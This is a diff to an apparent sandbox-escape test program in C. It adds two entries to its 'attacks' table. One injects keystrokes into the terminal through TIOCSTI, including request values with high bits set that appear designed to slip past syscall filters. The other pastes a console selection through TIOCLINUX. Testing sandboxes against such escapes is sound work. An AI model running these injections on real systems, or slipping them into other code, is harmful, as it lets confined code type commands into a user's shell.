@@ -14,6 +14,7 @@
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <sys/ioctl.h>
 #include <sys/mount.h>
 #include <sys/ptrace.h>
 #include <sys/socket.h>
@@ -238,10 +239,32 @@ static int open_fds(void)
     return 0;
 }
 
+/* ---- the terminal at stdin ---- */
+
+/* For whoever reads from it next. Of the request the kernel looks at the lower half alone. */
+static int type_into_terminal(void)
+{
+    const unsigned long requests[] = {0x5412 /* TIOCSTI */, 0x5412 | 1ul << 32, 0x5412 | 1ul << 63};
+    int worked = 0;
+    for (size_t i = 0; i < sizeof requests / sizeof *requests; i++)
+        for (const char *at = argument; *at; at++)
+            worked |= syscall(SYS_ioctl, 0, requests[i], at) == 0;
+    return worked;
+}
+
+/* Of a console, a selection is pasted. */
+static int paste_into_terminal(void)
+{
+    char selection[] = {3 /* TIOCL_PASTESEL */, 0};
+    return ioctl(0, 0x541C /* TIOCLINUX */, selection) == 0;
+}
+
 static const struct {
     const char *name;
     int (*run)(void);
 } attacks[] = {
+    {"type_into_terminal", type_into_terminal},
+    {"paste_into_terminal", paste_into_terminal},
     {"chroot_twice", chroot_twice},
     {"dots", dots},
     {"root_of_pid_1", root_of_pid_1},
